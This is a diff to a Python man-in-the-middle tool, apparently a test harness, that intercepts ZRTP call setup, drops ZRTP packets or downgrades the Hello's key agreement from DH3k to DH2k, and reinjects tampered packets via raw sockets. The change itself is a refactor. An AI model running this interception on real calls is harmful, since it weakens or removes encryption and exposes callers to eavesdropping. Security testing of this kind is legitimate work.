@@ -40,6 +40,12 @@ def zrtp_type(payload: bytes) -> bytes:
     return payload[16:24]
 
 
+def with_crc(body: bytes) -> bytes:
+    # Stored as the SCTP CRC is (RFC 3309): least significant byte first, as bzrtp, ZRTPCPP and
+    # tshark have it.
+    return body + crc32c(body).to_bytes(4, "little")
+
+
 def downgrade_hello(payload: bytes) -> bytes:
     """DH3k -> DH2k in the Hello's key agreement list (RFC 6189 section 5.2), CRC recomputed."""
     body = bytearray(payload[:-4])
@@ -57,14 +63,13 @@ def downgrade_hello(payload: bytes) -> bytes:
             changed = True
     if not changed:
         return payload
-    # Stored as the SCTP CRC is (RFC 3309): least significant byte first, as bzrtp, ZRTPCPP and
-    # tshark have it.
-    return bytes(body) + crc32c(bytes(body)).to_bytes(4, "little")
+    return with_crc(bytes(body))
 
 
 def main():
     mode, iface_a, iface_b, caller, callee, log_path = sys.argv[1:]
-    if mode not in ("strip", "hello-downgrade"):
+    edits = {"hello-downgrade": downgrade_hello}
+    if mode != "strip" and mode not in edits:
         sys.exit(f"zrtp_mitm: unknown mode {mode}")
     own_macs = {get_if_hwaddr(iface_a), get_if_hwaddr(iface_b)}
     out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
@@ -82,10 +87,10 @@ def main():
             if mode == "strip":
                 log.write(f"dropped {kind.decode(errors='replace').strip()} {ip.src} -> {ip.dst}\n")
                 return
-            if mode == "hello-downgrade" and kind == b"Hello   " and ip.src == caller:
-                tampered = downgrade_hello(payload)
+            if mode in edits and kind == b"Hello   " and ip.src == caller:
+                tampered = edits[mode](payload)
                 if tampered != payload:
-                    log.write(f"downgraded Hello {ip.src} -> {ip.dst}\n")
+                    log.write(f"{mode}: rewrote Hello {ip.src} -> {ip.dst}\n")
                     ip[UDP].remove_payload()
                     ip[UDP].add_payload(tampered)
                     del ip[UDP].chksum
